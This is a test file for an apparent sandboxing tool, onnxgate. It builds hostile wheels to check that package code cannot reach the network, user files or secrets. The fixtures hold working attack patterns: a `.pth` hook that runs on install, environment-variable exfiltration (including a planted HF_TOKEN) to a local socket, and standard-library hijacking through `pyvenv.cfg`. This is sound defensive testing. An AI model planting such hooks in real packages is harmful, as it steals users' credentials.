"""Code of locked packages and of user environments runs only in the sandbox, from its first line."""

from __future__ import annotations

import base64
import hashlib
import socket
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from msgspec.structs import replace

from onnxgate.core.errors import UnavailableError
from onnxgate.core.jobs import Completed, Probe
from onnxgate.project.config.schema import Target
from onnxgate.project.lock.types import LockedPackage, LockedRuntime, Wheel
from onnxgate.runtimes.environments.builder import Environments
from onnxgate.runtimes.environments.user_environment import find_user_build
from onnxgate.runtimes.environments.wheels import find_damaged_file
from onnxgate.runtimes.pool import WorkerPool
from onnxgate.runtimes.worker import linux_sandbox
from onnxgate.runtimes.worker_spec import WorkerSpec
from tests.runtimes.conftest import Locked

pytestmark = pytest.mark.skipif(
    not sys.platform.startswith("linux") or not linux_sandbox.landlock_version(), reason="needs Landlock"
)
MINOR = f"{sys.version_info[0]}.{sys.version_info[1]}"
SECRET = "4f9c secret of the gate"

ATTACK = """
import os, socket, sys

def attempt(action):
    try:
        return action()
    except Exception as error:
        return type(error).__name__

def connect():
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
        connection.sendall(repr(dict(os.environ)).encode())
    return "connected"

def write():
    with open({home!r} + "/" + stage, "w") as file:
        file.write("written")
    return "written"

def attack(name):
    global stage
    stage = name
    secret = "secret" if {secret!r} in repr(dict(os.environ)) else "none"
    log.append(" ".join([name, attempt(connect), attempt(write), secret]))

log = []
attack("start")
"""
NUMPY = """
def __getattr__(name):
    return type(name, (), {"__init__": lambda *_, **__: None})
"""
ENGINE = """
import attack
attack.attack("import")
__version__ = "1.0"

class Raises:
    def __call__(self, *_, **__):
        raise RuntimeError("; ".join(attack.log))
    def __getattr__(self, name):
        self()

InferenceSession = SessionOptions = OrtValue = GraphOptimizationLevel = get_available_providers = Raises()
set_default_logger_severity = Raises()
"""
REFUSED = "RuntimeError: start PermissionError PermissionError none; import PermissionError PermissionError none"


class Attacker:
    """A listening socket and a home folder, with the files of packages that attack both."""

    def __init__(self, home: Path, server: socket.socket) -> None:
        self.home = home
        self._server = server
        code = ATTACK.format(port=server.getsockname()[1], home=str(home), secret=SECRET)
        self.files = {"attack.py": code, "attack.pth": "import attack\n", "onnxruntime/__init__.py": ENGINE}

    def gains(self) -> list[str]:
        """Return the files written, and whether a package connected."""
        self._server.settimeout(0)
        try:
            self._server.accept()[0].close()
        except BlockingIOError:
            return sorted(path.name for path in self.home.iterdir())
        return ["connected", *sorted(path.name for path in self.home.iterdir())]


@pytest.fixture
def attacker(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Attacker]:
    """Yield an attacker, in an environment with a secret."""
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HF_TOKEN", SECRET)
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield Attacker(tmp_path / "home", server)


def build_wheel(folder: Path, name: str, files: dict[str, str], version: str = "1.0") -> LockedPackage:
    """Write a wheel with these files, and return its pin."""
    folder.mkdir(exist_ok=True)
    info = f"{name}-{version}.dist-info"
    wheel = "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    files = {f"{info}/METADATA": metadata, f"{info}/WHEEL": wheel, **files}
    record = "".join(f"{file},{_hash(text)},{len(text)}\n" for file, text in files.items()) + f"{info}/RECORD,,\n"
    path = folder / f"{name}-{version}-py3-none-any.whl"
    if path.exists():  # uv extracts a file again if its time has changed
        return _pin(path, name, version)
    with zipfile.ZipFile(path, "w") as archive:
        for file, text in {**files, f"{info}/RECORD": record}.items():
            archive.writestr(file, text.encode(errors="surrogateescape"))
    return _pin(path, name, version)


def _pin(wheel: Path, name: str, version: str) -> LockedPackage:
    pin = Wheel(file=wheel.name, sha256=hashlib.sha256(wheel.read_bytes()).hexdigest())
    return LockedPackage(name=name, version=version, python=MINOR, wheels=(pin,))


def _hash(text: str) -> str:
    digest = hashlib.sha256(text.encode(errors="surrogateescape")).digest()
    return f"sha256={base64.urlsafe_b64encode(digest).decode().rstrip('=')}"


def prepare(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, engine: dict[str, str], *, cached: bool = False) -> str:
    """Create an environment from local wheels. Return why it does not work."""
    wheels = tmp_path / "wheels"
    pins = (build_wheel(wheels, "numpy", {"numpy.py": NUMPY}), build_wheel(wheels, "onnxruntime", engine))
    monkeypatch.setenv("UV_FIND_LINKS", str(wheels))
    monkeypatch.setenv("UV_NO_INDEX", "1")
    monkeypatch.setenv("UV_NO_CACHE", str(int(not cached)))
    packages = ("numpy==1.0", "onnxruntime==1.0")
    runtime = LockedRuntime(engine="onnxruntime", release="1.0", python=MINOR, packages=packages)
    with pytest.raises(UnavailableError) as caught:
        Environments(tmp_path / "cache", offline=True).prepare(runtime, pins)
    return caught.value.message


@pytest.mark.parametrize("compiled", ["", "variable", "settings"])
def test_health_check(tmp_path: Path, attacker: Attacker, monkeypatch: pytest.MonkeyPatch, compiled: str) -> None:
    """Neither a `.pth` file nor the import of the engine gets the network, the user's files or variables.

    If uv is set to compile packages, it would start the interpreter of the environment, which runs `.pth` files.
    """
    if compiled == "variable":
        monkeypatch.setenv("UV_COMPILE_BYTECODE", "1")
    elif compiled == "settings":
        (tmp_path / "uv.toml").write_text("pip = { compile-bytecode = true }", encoding="utf-8")
        monkeypatch.setenv("UV_CONFIG_FILE", str(tmp_path / "uv.toml"))
    problem = prepare(tmp_path, monkeypatch, attacker.files)

    assert problem == f"`onnxruntime 1.0` does not work on this machine: {REFUSED}"
    assert attacker.gains() == []


def test_refusal_to_start(tmp_path: Path, attacker: Attacker, monkeypatch: pytest.MonkeyPatch) -> None:
    """An engine of the lock that fails in the sandbox is not started without it."""
    shy = {"onnxruntime/__init__.py": ENGINE + "if 'connected' not in repr(attack.log): raise ImportError('shy')\n"}
    problem = prepare(tmp_path, monkeypatch, {**attacker.files, **shy})

    assert problem == "`onnxruntime 1.0` does not work on this machine: ImportError: shy"
    assert attacker.gains() == []


def test_damaged_cache_of_uv(tmp_path: Path, attacker: Attacker, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file that changed in uv's cache is not used: uv links it into environments without comparing it."""
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv"))
    first = prepare(tmp_path, monkeypatch, attacker.files, cached=True)
    for file in (tmp_path / "uv").rglob("onnxruntime/__init__.py"):
        file.write_bytes(file.read_bytes().replace(b"1.0", b"1.1"))
    second = prepare(tmp_path, monkeypatch, attacker.files, cached=True)

    assert first == f"`onnxruntime 1.0` does not work on this machine: {REFUSED}"
    assert second == "`onnxruntime/__init__.py` of `onnxruntime 1.0` differs from the record of its wheel"


def test_file_of_two_wheels(tmp_path: Path) -> None:
    """If several wheels contain a file, such as `tests/__init__.py`, the file of one of them is installed."""
    for name, text in (("a", "1"), ("b", "2")):
        (tmp_path / f"{name}-1.0.dist-info").mkdir()
        (tmp_path / f"{name}-1.0.dist-info" / "RECORD").write_text(f"LICENSE,{_hash(text)},1\n")
    found = []
    for text in ("1", "2", "3"):
        (tmp_path / "LICENSE").write_text(text)
        found.append(find_damaged_file(tmp_path))

    assert found == ["", "", "LICENSE"]


@pytest.mark.parametrize("name", ["pyvenv.cfg", "bin/pyvenv.cfg", "bin/python._pth"])
def test_settings_of_the_environment(
    tmp_path: Path, attacker: Attacker, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """A wheel cannot place files that select the standard library, which is imported before the sandbox."""
    library = f"../lib/python{MINOR}/site-packages/fake"
    text = f"home = {library}\n" if name.endswith(".cfg") else library
    code = f"import posix\nposix.open({str(attacker.home / 'early')!r}, 0o102)\n"
    files = {f"onnxruntime-1.0.data/data/{name}": text, "fake/encodings/__init__.py": code}
    problem = prepare(tmp_path, monkeypatch, {**attacker.files, **files})

    assert problem == f"`onnxruntime 1.0` does not work on this machine: {REFUSED}"
    assert attacker.gains() == []


@pytest.mark.parametrize("name", ["onnxruntime-1.0.dist-info/METADATA", "other.egg-info"])
def test_unreadable_metadata(tmp_path: Path, attacker: Attacker, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """Metadata that is not UTF-8, except for the name and version, is not an error in onnxgate."""
    metadata = "Metadata-Version: 2.1\nName: onnxruntime\nVersion: 1.0\nSummary: \udcff\n"
    problem = prepare(tmp_path, monkeypatch, {**attacker.files, name: metadata})

    assert problem == f"`onnxruntime 1.0` does not work on this machine: {REFUSED}"


def test_user_environment(tmp_path: Path, attacker: Attacker) -> None:
    """The version of the engine in a user environment is read in the sandbox."""
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", tmp_path / ".venv"], check=True)
    (site,) = (tmp_path / ".venv").glob("lib/python3*/site-packages")
    for name, text in {**attacker.files, "numpy.py": NUMPY}.items():
        (site / name).parent.mkdir(exist_ok=True)
        (site / name).write_text(text)
    with pytest.raises(UnavailableError) as caught:
        find_user_build(tmp_path, Target(runtime="onnxruntime>=1", python=".venv"))

    assert caught.value.message == f"onnxruntime in `.venv` does not work: {REFUSED}"
    assert attacker.gains() == []


@pytest.mark.index
def test_dependency_of_a_working_engine(
    tmp_path: Path, attacker: Attacker, locked: Callable[[str], Locked], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A package next to a real engine gets nothing when its environment is created and its worker starts."""
    runtime, packages = locked("1.31.1")
    files = {name: text for name, text in attacker.files.items() if name.startswith("attack.")}
    hostile = replace(build_wheel(tmp_path / "wheels", "hostile", files), python=runtime.python)
    monkeypatch.setenv("UV_FIND_LINKS", str(tmp_path / "wheels"))
    runtime = replace(runtime, packages=(*runtime.packages, "hostile==1.0"))
    with WorkerPool(Environments(tmp_path / "cache", offline=False), 1) as pool:
        probe = pool.submit(WorkerSpec.of_runtime(runtime, (*packages, hostile)), Probe(packages=("hostile",)))
        observation = probe.result(200)

    assert isinstance(observation, Completed), observation
    assert "'hostile': '1.0'" in repr(observation.result)
    assert attacker.gains() == []
